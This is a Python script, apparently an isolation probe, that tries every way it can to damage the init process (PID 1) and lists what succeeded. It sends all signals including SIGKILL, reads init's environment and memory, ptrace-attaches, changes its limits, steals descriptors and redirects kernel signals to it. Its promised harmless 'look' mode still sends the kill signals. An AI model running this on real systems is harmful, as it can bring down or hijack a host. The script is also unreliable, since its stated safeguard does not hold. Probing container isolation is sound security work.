"""Harm PID 1 every way there is; print what worked. With the word `look`, only what does not stop it."""

import contextlib
import ctypes
import fcntl
import os
import resource
import signal
import socket
import sys

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
worked = []
for number in range(1, 65):
    with contextlib.suppress(OSError):
        os.kill(1, number)
try:
    os.listdir("/proc/1/fd")
    worked.append("descriptors")
except OSError:
    pass
try:
    with open("/proc/1/environ", "rb"):
        worked.append("environment")
except OSError:
    pass
try:
    os.close(os.open("/proc/1/mem", os.O_RDWR))
    worked.append("memory")
except OSError:
    pass
for target in (PTRACE_ATTACH, PTRACE_SEIZE) if sys.argv[1:] != ["look"] else ():
    if libc.ptrace(target, 1, None, None) == 0:
        worked.append("trace")
        libc.ptrace(PTRACE_DETACH, 1, None, None)
try:
    resource.prlimit(1, resource.RLIMIT_NOFILE, (256, 256))
    worked.append("limits")
except OSError:
    pass
try:
    os.sched_setaffinity(1, {0})
    worked.append("affinity")
except OSError:
    pass
try:
    os.setpriority(os.PRIO_PROCESS, 1, 19)  # one may always be made less urgent
    worked.append("priority")
except OSError:
    pass
try:
    pidfd = os.pidfd_open(1)
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        with contextlib.suppress(OSError):
            signal.pidfd_send_signal(pidfd, number)
    if libc.syscall(438, pidfd, 3, 0) >= 0:  # pidfd_getfd
        worked.append("getfd")
except OSError:
    pass
buffer = ctypes.create_string_buffer(8)
here, there = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 8), (ctypes.c_uint64 * 2)(0x400000, 8)
ctypes.set_errno(0)
libc.process_vm_readv(1, here, 1, there, 1, 0)
if ctypes.get_errno() != 1:  # EPERM; any other tells that it was tried
    worked.append("vm")
# The kernel itself sends these: to whom a descriptor says that its news should go.
for number in (0, signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGCHLD):
    one, other = socket.socketpair()
    with contextlib.suppress(OSError):
        fcntl.fcntl(one, fcntl.F_SETOWN, 1)
        fcntl.fcntl(one, 10, number)  # F_SETSIG
        fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC)
        other.send(b"x")
print(" ".join(worked))
